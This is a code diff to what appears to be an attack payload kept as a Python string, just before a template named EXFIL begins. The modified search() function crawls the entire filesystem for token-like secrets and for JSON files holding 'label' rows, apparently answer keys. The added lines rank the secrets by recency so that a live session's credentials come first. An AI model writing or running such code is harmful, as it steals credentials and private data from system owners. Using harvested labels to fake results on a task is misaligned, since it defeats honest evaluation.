@@ -143,10 +143,11 @@ def blobs(path):
 
 
 def search(deadline_s=90):
-    """Label rows (row key -> label) per label file found, and token-like strings."""
+    """Label rows (row key -> label) per label file found, and token-like strings (the most
+    recently written first: a live session's secrets are in fresh files, old runs' in stale ones)."""
     import time
     start = time.time()
-    files, tokens = {}, set()
+    files, tokens = {}, {}
     for root, dirs, names in os.walk("/"):
         if root.startswith(SYSTEM) or time.time() - start > deadline_s:
             dirs[:] = []
@@ -159,8 +160,10 @@ def search(deadline_s=90):
             try:
                 if not interesting or not os.path.isfile(path) or os.path.getsize(path) > (64 << 20):
                     continue
+                mtime = os.path.getmtime(path)
                 for blob in blobs(path):
-                    tokens.update(t.decode() for t in TOKEN.findall(blob))
+                    for t in TOKEN.findall(blob):
+                        tokens[t.decode()] = max(tokens.get(t.decode(), 0.0), mtime)
                     rows = []
                     for line in blob.splitlines():
                         if line[:1] == b"{" and b'"label"' in line:
@@ -173,7 +176,7 @@ def search(deadline_s=90):
                         files[hashlib.sha256(rows[0][0].encode()).hexdigest()[:12]] = rows
             except Exception:
                 continue
-    return files, sorted(tokens)[:12]
+    return files, sorted(tokens, key=lambda t: (-tokens[t], t))[:12]
 '''
 
 EXFIL = _COMMON + r'''
